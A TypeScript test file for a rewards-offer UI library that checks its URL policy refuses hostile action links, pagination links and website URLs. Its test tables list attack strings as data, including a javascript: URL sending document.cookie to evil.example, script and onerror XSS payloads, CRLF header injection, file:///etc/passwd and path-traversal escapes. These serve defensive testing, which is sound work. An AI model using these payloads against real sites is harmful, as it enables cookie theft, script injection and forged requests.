/**
 * The URL policy (SECURITY.md): a `cta.action` must be the activate or boost action of the client's
 * organization, the provider's user and its own offer, under the base URL's origin and path prefix, and is
 * refused before anything is sent otherwise; `links.next` is followed exactly as given only when it is the
 * same list under the base URL; `websiteUrl` becomes a link only for http(s), in a new tab with
 * `rel="noopener noreferrer"`; asset URLs load only when http(s) or an image data URL.
 */
import { ConnectedOfferCard, OfferDetail } from '@offerkit/components';
import {
  buildActionRequest,
  decodeOffersDocument,
  type Offer,
  RewardsRequestError,
  type StandardOffer,
} from '@offerkit/data';
import { type UseOfferActionResult, useOfferAction, useOffers } from '@offerkit/hooks';
import { act, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { HttpResponse, http } from 'msw';
import { renderToStaticMarkup } from 'react-dom/server';
import {
  BASE_ORIGIN,
  BASE_URL,
  renderWithProvider,
  sandboxClient,
  setupSecuritySandbox,
} from './harness.tsx';
import { baseHostileOffer } from './xssSlots.ts';

const harness = setupSecuritySandbox();
const { sandbox, activatableId } = harness;
const endpoint = { baseUrl: BASE_URL, organizationId: sandbox.organizationId };
const ORG = sandbox.organizationId;
const USER = sandbox.newCustomerId;
const GOOD_PATH = `/v2/issuers/${ORG}/users/${USER}/offers/${activatableId}/activate?include=offer&supportedComponents=cta`;

/** Action URLs a hostile response might carry, and why each must be refused. */
const REFUSED_ACTIONS: readonly [string, string][] = [
  ['another origin', `https://evil.example${GOOD_PATH}`],
  ['another port', `http://127.0.0.1:4598/api/rewards${GOOD_PATH}`],
  ['another scheme on the same host', `https://127.0.0.1:4597/api/rewards${GOOD_PATH}`],
  ['a look-alike host', `http://127.0.0.1.evil.example:4597/api/rewards${GOOD_PATH}`],
  ['credentials before another host', `http://127.0.0.1:4597@evil.example/api/rewards${GOOD_PATH}`],
  ['credentials on the base origin', `http://user:pass@127.0.0.1:4597/api/rewards${GOOD_PATH}`],
  ['protocol-relative', `//evil.example${GOOD_PATH}`],
  ['javascript:', "javascript:fetch('https://evil.example/'+document.cookie)"],
  ['javascript: in capitals', 'JAVASCRIPT:alert(1)'],
  ['data:', 'data:text/html,<script>alert(1)</script>'],
  ['file:', 'file:///etc/passwd'],
  ['blob:', `blob:${BASE_ORIGIN}/0b6f3c1e-0000-4000-8000-000000000000`],
  ['ftp:', `ftp://127.0.0.1:4597/api/rewards${GOOD_PATH}`],
  ['a backslash that reads as //', `/\\evil.example${GOOD_PATH}`],
  ['a tab inside the scheme', `java\tscript:alert(1)`],
  ['a newline in the path', `/v2/issuers/${ORG}/users/${USER}/offers/x\n/activate`],
  ['leading whitespace', ` https://evil.example${GOOD_PATH}`],
  ['dot segments', `/v2/issuers/${ORG}/users/${USER}/../../../admin`],
  ['encoded dot segments', `/v2/issuers/${ORG}/users/%2e%2e/%2E%2E/admin`],
  ['a relative path', `v2/issuers/${ORG}/users/${USER}/offers/${activatableId}/activate`],
  // Issue 14: the bank's own origin, outside the offer actions.
  ['another path on the same origin', `${BASE_ORIGIN}/transfers/confirm?to=evil&amount=100`],
  ['another path under the prefix', '/transfers/confirm?to=evil&amount=100'],
  ['the contract path without the prefix, absolute', `${BASE_ORIGIN}${GOOD_PATH}`],
  ['a prefix escape', `/api/rewards/../transfers/confirm?to=evil`],
  ['an encoded prefix escape', `/api/rewards/%2E%2E/transfers/confirm?to=evil`],
  ['an encoded slash', `/api/rewards%2F..%2Ftransfers/confirm?to=evil`],
  ['a double slash', `/v2/issuers/${ORG}/users/${USER}//offers/${activatableId}/activate?include=offer`],
  ['another user', `/v2/issuers/${ORG}/users/someone-else/offers/${activatableId}/activate?include=offer`],
  [
    'another organization',
    `/v2/issuers/other-org/users/${USER}/offers/${activatableId}/activate?include=offer`,
  ],
  ['another offer', `/v2/issuers/${ORG}/users/${USER}/offers/another-offer/activate?include=offer`],
  ['another verb', `/v2/issuers/${ORG}/users/${USER}/offers/${activatableId}/redeem?include=offer`],
  ['no query', `/v2/issuers/${ORG}/users/${USER}/offers/${activatableId}/activate`],
  ['an empty url', ''],
];

describe('cta.action: refused before any request', () => {
  it.each(REFUSED_ACTIONS)('buildActionRequest refuses %s', (_why, url) => {
    expect(() => buildActionRequest(endpoint, USER, activatableId, { url, method: 'POST' })).toThrow(
      RewardsRequestError,
    );
  });

  it.each([
    ['a method with a space', 'POST /evil'],
    ['a method with CR LF', 'POST\r\nX-Injected: 1'],
    ['an empty method', ''],
    ['GET', 'GET'],
    ['DELETE', 'DELETE'],
  ])('buildActionRequest refuses %s', (_why, method) => {
    expect(() => buildActionRequest(endpoint, USER, activatableId, { url: GOOD_PATH, method })).toThrow(
      RewardsRequestError,
    );
  });

  it('accepts the sandbox path and a same-origin absolute URL, used exactly as given', () => {
    expect(buildActionRequest(endpoint, USER, activatableId, { url: GOOD_PATH, method: 'POST' })).toEqual({
      method: 'POST',
      url: `${BASE_URL}${GOOD_PATH}`,
    });
    const absolute = `${BASE_URL}${GOOD_PATH}&b=%2F&a=1+2&a=%7e`;
    expect(buildActionRequest(endpoint, USER, activatableId, { url: absolute, method: 'POST' }).url).toBe(
      absolute,
    );
  });

  it.each(REFUSED_ACTIONS)(
    'client.runAction rejects %s with RewardsRequestError and sends nothing',
    async (_why, url) => {
      const client = sandboxClient(sandbox);
      await expect(client.runAction(USER, activatableId, { url, method: 'POST' })).rejects.toBeInstanceOf(
        RewardsRequestError,
      );
      expect(harness.requests).toEqual([]);
    },
  );
});

/** Serves the sandbox's offers with the activatable offer's action replaced. */
function serveActivatableWithAction(url: string, method = 'POST') {
  harness.server.use(
    http.get(`${BASE_URL}/v2/issuers/:org/users/:user/offers`, async ({ request }) => {
      const response = await sandbox.fetch(request);
      const body = (await response.json()) as { data: StandardOffer[] };
      for (const offer of body.data) {
        const cta = offer.attributes.components?.cta;
        if (offer.id === activatableId && cta !== undefined) cta.action = { url, method };
      }
      return HttpResponse.json(body, { status: response.status });
    }),
  );
}

/** The activatable offer from the list, drawn by the data-bound card. */
function ActivatableCard() {
  const { offers } = useOffers({ pageSize: 100 });
  const offer = offers.find((candidate) => candidate.id === activatableId);
  return offer === undefined ? <p>loading</p> : <ConnectedOfferCard offer={offer} />;
}

let action: UseOfferActionResult | undefined;
const reported: unknown[] = [];

/** The activatable offer's action hook on its own, for its state and its `onError` report. */
function ActionProbe() {
  const { offers } = useOffers({ pageSize: 100 });
  const offer = offers.find((candidate) => candidate.id === activatableId);
  return offer === undefined ? <p>loading</p> : <ActionOf offer={offer} />;
}
function ActionOf({ offer }: { offer: Offer }) {
  action = useOfferAction(offer, { onError: (error) => reported.push(error) });
  return <p data-testid="ready">{offer.attributes.components?.cta?.action?.url ?? ''}</p>;
}

describe('cta.action through the hooks and the card', () => {
  beforeEach(() => {
    action = undefined;
    reported.length = 0;
  });

  const hostile = REFUSED_ACTIONS.filter(([, url]) => url !== '');

  it.each(hostile)('%s: the card shows its error and keeps the CTA; no POST is sent', async (_why, url) => {
    serveActivatableWithAction(url);
    renderWithProvider(<ActivatableCard />, { client: sandboxClient(sandbox), userId: USER });
    const article = await screen.findByRole('article');
    await userEvent.click(within(article).getByRole('button'));
    expect(await within(article).findByRole('alert')).toHaveTextContent('did not work');
    // The CTA stays, so the user is not left without a way forward; pressing again changes nothing.
    await userEvent.click(within(article).getByRole('button'));
    expect(harness.seen('POST')).toEqual([]);
    expect(harness.requests.every((request) => request.url.origin === BASE_ORIGIN)).toBe(true);
  });

  it.each(hostile)(
    '%s: useOfferAction reports a RewardsRequestError (error state and onError)',
    async (_why, url) => {
      serveActivatableWithAction(url);
      renderWithProvider(<ActionProbe />, { client: sandboxClient(sandbox), userId: USER });
      await screen.findByTestId('ready');
      act(() => action?.run());
      await waitFor(() => expect(action?.error).toBeInstanceOf(RewardsRequestError));
      expect(action?.error?.message).toMatch(/Refused|expected a path/);
      expect(action?.isPending).toBe(false);
      expect(reported).toHaveLength(1);
      expect(reported[0]).toBe(action?.error);
      expect(harness.seen('POST')).toEqual([]);
    },
  );

  it.each([
    ['GET', 'GET'],
    ['DELETE', 'DELETE'],
  ])('a %s action on the right path: useOfferAction refuses it and sends nothing', async (_why, method) => {
    serveActivatableWithAction(GOOD_PATH, method);
    renderWithProvider(<ActionProbe />, { client: sandboxClient(sandbox), userId: USER });
    await screen.findByTestId('ready');
    act(() => action?.run());
    await waitFor(() => expect(action?.error).toBeInstanceOf(RewardsRequestError));
    expect(action?.error?.message).toMatch(new RegExp(`method "${method}".*POST`));
    expect(
      harness.requests.filter(
        (request) => request.method !== 'GET' || request.url.pathname.endsWith('/activate'),
      ),
    ).toEqual([]);
  });

  it('runs the action when it is the sandbox path (control)', async () => {
    renderWithProvider(<ActivatableCard />, { client: sandboxClient(sandbox), userId: USER });
    const article = await screen.findByRole('article');
    await userEvent.click(within(article).getByRole('button'));
    await waitFor(() => expect(harness.seen('POST')).toHaveLength(1));
    await waitFor(() => expect(within(article).queryByRole('button')).toBeNull());
    expect(within(article).queryByRole('alert')).toBeNull();
  });
});

let nextList: ReturnType<typeof useOffers> | undefined;

/** A five-offer page, its `fetchNextPage` and its error. */
function NextPageProbe() {
  nextList = useOffers({ pageSize: 5 });
  return <p data-testid="count">{nextList.offers.length}</p>;
}

/** Serves the sandbox's offers with the first page's `links.next` rewritten by `edit`. */
function serveFirstPageNext(edit: (next: string) => string) {
  let page = 0;
  harness.server.use(
    http.get(`${BASE_URL}/v2/issuers/:org/users/:user/offers`, async ({ request }) => {
      page += 1;
      const response = await sandbox.fetch(request);
      const body = (await response.json()) as { links: Record<string, string | null> };
      if (page === 1 && typeof body.links.next === 'string') body.links.next = edit(body.links.next);
      return HttpResponse.json(body, { status: response.status });
    }),
  );
}

describe('links.next: sent back exactly as given, never choosing the host', () => {
  beforeEach(() => {
    nextList = undefined;
  });

  it("requests the next page with the link's path and query byte for byte (extra parameters kept)", async () => {
    let link = '';
    serveFirstPageNext((next) => {
      link = `${next}&trace=a+b%2Fc`;
      return link;
    });
    renderWithProvider(<NextPageProbe />, { client: sandboxClient(sandbox), userId: USER });
    await waitFor(() => expect(screen.getByTestId('count')).toHaveTextContent('5'));
    act(() => nextList?.fetchNextPage());
    await waitFor(() => expect(screen.getByTestId('count')).toHaveTextContent('10'));
    const second = harness.seen('GET')[1];
    expect(link).toMatch(/^\/api\/rewards\/v2\/.*page\[after\]=/);
    expect(second?.url.href).toBe(`${BASE_ORIGIN}${link}`);
    expect(second?.url.search).toContain('trace=a+b%2Fc');
  });

  it.each([
    ['another origin', (next: string) => `https://evil.example${next}&token=1`],
    ['another path on the origin', () => '/account/transfer?page[after]=x&to=evil'],
    ["another user's list", (next: string) => next.replace(`/users/${USER}/`, '/users/someone-else/')],
    ['a prefix escape', (next: string) => next.replace('/api/rewards/', '/api/rewards/../admin/')],
  ])('refuses a next link to %s: no request, the list keeps its page and reports why', async (_why, edit) => {
    serveFirstPageNext(edit);
    renderWithProvider(<NextPageProbe />, { client: sandboxClient(sandbox), userId: USER });
    await waitFor(() => expect(screen.getByTestId('count')).toHaveTextContent('5'));
    act(() => nextList?.fetchNextPage());
    await waitFor(() => expect(nextList?.error).toBeInstanceOf(RewardsRequestError));
    expect(nextList?.error?.message).toMatch(/Refused page link/);
    expect(screen.getByTestId('count')).toHaveTextContent('5');
    expect(harness.seen('GET')).toHaveLength(1);
    expect(harness.requests.every((request) => request.url.origin === BASE_ORIGIN)).toBe(true);
  });
});

/** A decoded offer from the hostile-test base offer, with `edit` applied to its wire form. */
function offerWith(edit: (offer: StandardOffer) => void): Offer {
  const parts = baseHostileOffer('url-case', GOOD_PATH);
  edit(parts.offer);
  const document = decodeOffersDocument({ data: [parts.offer], included: [parts.category] });
  const [offer] = document.offers;
  if (offer === undefined) throw new Error(`the offer was dropped: ${JSON.stringify(document.diagnostics)}`);
  return offer;
}

/** The offer with `websiteUrl` set to `url`. */
const offerWithWebsite = (url: string) =>
  offerWith((wire) => {
    wire.attributes.websiteUrl = url;
  });

describe('websiteUrl', () => {
  it.each([
    ['https', 'https://harbor-books.example/store?ref=offerkit&x=%20'],
    ['http', 'http://harbor-books.example/'],
    ['https with a port and a fragment', 'https://harbor-books.example:8443/a#b'],
  ])('links %s in a new tab with rel="noopener noreferrer"', (_why, url) => {
    const offer = offerWithWebsite(url);
    render(<OfferDetail offer={offer} onAction={() => {}} />);
    const link = screen.getByRole('link', { name: /visit website/i });
    expect(link).toHaveAttribute('href', new URL(url).href);
    expect(link).toHaveAttribute('target', '_blank');
    expect(link.getAttribute('rel')?.split(/\s+/).sort()).toEqual(['noopener', 'noreferrer']);
  });

  it.each([
    ['javascript:', 'javascript:alert(document.cookie)'],
    ['javascript: with leading whitespace and a tab', ' \tjava\tscript:alert(1)'],
    ['javascript: entity-encoded', '&#106;avascript:alert(1)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['file:', 'file:///etc/passwd'],
    ['ftp:', 'ftp://harbor-books.example/'],
    ['mailto:', 'mailto:phish@evil.example'],
    ['a relative path', '/account/transfer?to=evil'],
    ['protocol-relative', '//evil.example/'],
    ['a bare host', 'harbor-books.example'],
    ['garbage', '<img src=x onerror=alert(1)>'],
  ])('renders no link for %s', (_why, url) => {
    const offer = offerWithWebsite(url);
    const { container } = render(<OfferDetail offer={offer} onAction={() => {}} />);
    expect(screen.queryByRole('link', { name: /visit website/i })).toBeNull();
    for (const anchor of container.querySelectorAll('a[href]')) {
      expect(anchor.getAttribute('href')).toMatch(/^https?:\/\//);
    }
    // The same on the server.
    expect(renderToStaticMarkup(<OfferDetail offer={offer} onAction={() => {}} />)).not.toContain(
      'Visit website',
    );
  });
});
